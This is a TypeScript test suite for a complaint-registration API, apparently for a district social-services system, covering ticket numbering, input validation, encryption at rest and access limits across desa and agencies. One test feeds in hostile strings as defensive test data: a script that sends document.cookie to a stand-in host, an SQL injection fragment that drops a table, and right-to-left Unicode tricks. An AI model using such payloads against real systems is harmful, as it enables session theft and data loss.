import { describe, expect, test } from 'vitest'
import { newId } from '@slrt/domain/id'
import { CIMEKAR, complaintOf, family, office, told } from '../support/complaints.ts'
import { failure, world, type Person } from '../support/world.ts'

const NEXT_DESA = '32.04.05.2004'

async function village(options: Parameters<typeof world>[0] = {}) {
  const made = await world(options)
  await made.district('32.04')
  const rini = await made.somebody('32.04', 'FASILITATOR', [CIMEKAR])
  const home = family(1)
  await rini.api.household.register.mutate({ commandId: newId(), ...home })
  return { made, rini, home }
}

type Told = ReturnType<typeof told>
const register = (person: Person, input: Told | object) =>
  person.api.complaint.register.mutate({ commandId: newId(), ...(input as Told) })
const show = (person: Person, { id }: { id: string }) => person.api.complaint.show.query({ id })

describe('a complaint', () => {
  test('has a number, its needs in the order given and the words as they were told', async () => {
    const { rini, home } = await village()
    const input = { ...told(home.id, ['KP02', 'RMH01']), hope: 'KIS aktif lagi', reporter: 'Pak RT Ujang' }
    await register(rini, input)
    const shown = await show(rini, input)
    expect(shown).toMatchObject({
      ticket: expect.stringMatching(/^3204-\d{4}-000001$/),
      head: 'Siti Aminah',
      desa: { code: CIMEKAR, label: 'Desa Cimekar' },
      story: input.story,
      hope: 'KIS aktif lagi',
      reporter: 'Pak RT Ujang',
      registeredBy: 'FASILITATOR 32.04',
    })
    expect(
      shown.items.map(({ category, state, turn, isMine }) => [category, state, turn, isMine].join(' ')).sort(),
    ).toEqual(['KP02 TERDAFTAR DESA true', 'RMH01 TERDAFTAR DESA true'])
    const card = await rini.api.household.show.query({ id: home.id })
    expect(card.needs.map(({ complaint }) => complaint)).toEqual([input.id, input.id])
  })

  test('numbers count on without a gap, also when many come at once and some are refused', async () => {
    const { made, rini, home } = await village()
    const inputs = Array.from({ length: 12 }, () => told(home.id))
    const wrong = Array.from({ length: 6 }, () => told(newId()))
    const outcomes = await Promise.allSettled([...inputs, ...wrong].map((input) => register(rini, input)))
    expect(outcomes.filter(({ status }) => status === 'fulfilled')).toHaveLength(12)
    const { rows } = await made.owner.query<{ n: number }>(
      'select right(ticket, 6)::int as n from complaint order by 1',
    )
    expect(rows.map(({ n }) => n)).toEqual(Array.from({ length: 12 }, (_, n) => n + 1))
  })

  test('sent again by the outbox after the family has moved away, it is answered as before', async () => {
    const { made, rini, home } = await village()
    const input = { commandId: newId(), ...told(home.id) }
    await rini.api.complaint.register.mutate(input)
    await made.owner.query('update household set desa = $1 where id = $2', [NEXT_DESA, home.id])
    expect(await rini.api.complaint.register.mutate(input)).toEqual({})
    expect((await failure(register(rini, told(home.id)))).code).toBe('household.not_found')
  })

  test('each district and month counts from one', async () => {
    let at = new Date('2026-10-31T16:59:00Z')
    const { made, rini, home } = await village({ now: () => at })
    const tickets: (string | null)[] = []
    const add = async (person: Person, household: string) => {
      const input = told(household)
      await register(person, input)
      tickets.push((await show(person, input)).ticket)
    }
    await add(rini, home.id)
    // Midnight in Bandung is 17:00 in Greenwich.
    at = new Date('2026-10-31T17:00:00Z')
    await add(rini, home.id)
    await made.district('32.73')
    const other = await made.somebody('32.73', 'FO')
    const there = family(2, '32.73.03.1001')
    await other.api.household.register.mutate({ commandId: newId(), ...there })
    await add(other, there.id)
    expect(tickets).toEqual(['3204-2610-000001', '3204-2611-000001', '3273-2611-000001'])
  })

  test.each<[string, string]>([
    ['a script', '<script>fetch("//x.test?"+document.cookie)</script><img src=x onerror=alert(1)>'],
    ['an SQL fragment', `Robert'); drop table complaint; -- \\'; select pg_sleep(10); $$`],
    ['right-to-left trickery', '\u202Egnisnimak\u202C \u2066abc\u2069 \u200F \uFEFF'],
    ['lines, tabs and signs of all kinds', 'satu\r\n\tdua\n\n😀 ꦲ "\\u0041" %s ${x} {{y}} \u0007'],
    ['100,000 characters', 'ꦲ'.repeat(100_000)],
  ])('%s is stored and given back as text', async (_, story) => {
    const { rini, home } = await village()
    const input = { ...told(home.id), story, hope: story }
    await register(rini, input)
    const shown = await show(rini, input)
    expect(shown.story === story && shown.hope === story).toBe(true)
  })

  test.each<[string, string, object]>([
    ['story', 'too_big', { story: 'x'.repeat(100_001) }],
    ['consent', 'invalid_value', { consent: false }],
    ['items', 'too_small', { items: [] }],
    ['items.0.category', 'invalid_value', { items: [{ id: newId(), category: 'KIS', program: null }] }],
    ['reporter', 'hidden', { reporter: 'Pak\u202E RT' }],
  ])('%s: %s', async (path, reason, change) => {
    const { rini, home } = await village()
    const refused = await failure(register(rini, { ...told(home.id), ...change }))
    expect([refused.httpStatus, refused.code, refused.fields]).toEqual([400, 'input.invalid', [{ path, reason }]])
  })

  test('a sign of a text’s end in the middle is refused, and nothing of it is written', async () => {
    const { made, rini, home } = await village()
    const refused = await failure(register(rini, { ...told(home.id), reporter: 'Pak\u0000RT' }))
    expect(refused.httpStatus).toBe(400)
    const shown = { ...told(home.id), story: 'satu\u0000dua' }
    await register(rini, shown)
    expect((await show(rini, shown)).story).toBe('satu\u0000dua')
    const { rows } = await made.owner.query(`select count(*)::int as n from command where path = 'complaint.register'`)
    expect(rows).toEqual([{ n: 1 }])
  })

  test('of an unknown family, with the id of another, or with a need that is there already', async () => {
    const { rini, home } = await village()
    const first = told(home.id)
    await register(rini, first)
    expect((await failure(register(rini, told(newId())))).code).toBe('household.not_found')
    expect((await failure(register(rini, { ...told(home.id), id: first.id }))).code).toBe('complaint.exists')
    expect((await failure(register(rini, { ...told(home.id), items: first.items }))).code).toBe('complaint.exists')
  })

  test('of a suspended district is not taken', async () => {
    const { made, rini, home } = await village()
    await made.owner.query(`update national.tenant set state = 'DITANGGUHKAN' where code = '32.04'`)
    expect((await failure(register(rini, told(home.id)))).code).toBe('tenant.suspended')
  })

  test('what was told stands in no table in the clear', async () => {
    const { made, rini, home } = await village()
    const input = { ...told(home.id), story: 'RAHASIAKELUARGA', hope: 'RAHASIAHARAPAN', reporter: 'RAHASIAPELAPOR' }
    await register(rini, input)
    const { rows: tables } = await made.owner.query<{ name: string }>(
      `select table_name as name from information_schema.tables where table_schema = 'public'`,
    )
    const hex = Buffer.from('RAHASIA').toString('hex')
    for (const { name } of tables) {
      const { rows } = await made.owner.query(`select from "${name}" t where t::text ~ 'RAHASIA|${hex}'`)
      expect([name, rows.length]).toEqual([name, 0])
    }
    expect(JSON.stringify(made.log)).not.toContain('RAHASIA')
  })
})

test('nobody of the next desa, of another district or of a third agency sees anything of it', async () => {
  const made = await world()
  const { fasilitator, supervisor, bo, health, school, units } = await office(made)
  await made.district('32.73')
  const { complaint, items } = await complaintOf(fasilitator)
  const sent = { id: newId(), item: items[0]!, version: 1, unit: units.health, request: 'Aktifkan kembali.' }
  await bo.api.referral.send.mutate({ commandId: newId(), ...sent })
  for (const person of [fasilitator, supervisor, bo])
    expect((await show(person, { id: complaint })).items).toHaveLength(1)
  const strangers = [
    await made.somebody('32.04', 'FASILITATOR', [NEXT_DESA]),
    await made.somebody('32.04', 'SUPERVISOR', ['32.04.44']),
    await made.somebody('32.73', 'MANAJER'),
    await made.somebody('32.73', 'BO'),
  ]
  for (const person of strangers) {
    expect((await failure(show(person, { id: complaint }))).code).toBe('complaint.not_found')
    const { rows, total } = await person.api.item.queue.query({ tab: 'all' })
    expect([rows, total]).toEqual([[], 0])
    expect((await person.api.item.counts.query({})).all).toBe(0)
    if (person.role === 'SUPERVISOR' || person.role === 'FASILITATOR') continue
    const act = person.api.item.take.mutate({ commandId: newId(), id: items[0]!, version: 2 })
    expect((await failure(act)).code).toBe('item.not_found')
  }
  const mine = await health.api.referral.inbox.query({ state: 'open' })
  expect(mine.rows.map(({ id }) => id)).toEqual([sent.id])
  expect((await school.api.referral.inbox.query({ state: 'open' })).total).toBe(0)
  expect((await failure(school.api.referral.show.query({ id: sent.id }))).code).toBe('referral.not_found')
  const wait = { commandId: newId(), id: items[0]!, version: 2, note: 'KK belum ada.' }
  expect((await failure(school.api.item.wait.mutate(wait))).code).toBe('item.not_found')
})

test('a fasilitator of the next desa does nothing to it', async () => {
  const { made, rini, home } = await village()
  const input = told(home.id)
  await register(rini, input)
  const next = await made.somebody('32.04', 'FASILITATOR', [NEXT_DESA])
  const act = next.api.item.identify.mutate({ commandId: newId(), id: input.items[0]!.id, version: 1 })
  expect((await failure(act)).code).toBe('item.not_found')
  expect((await failure(register(next, told(home.id)))).code).toBe('household.not_found')
})
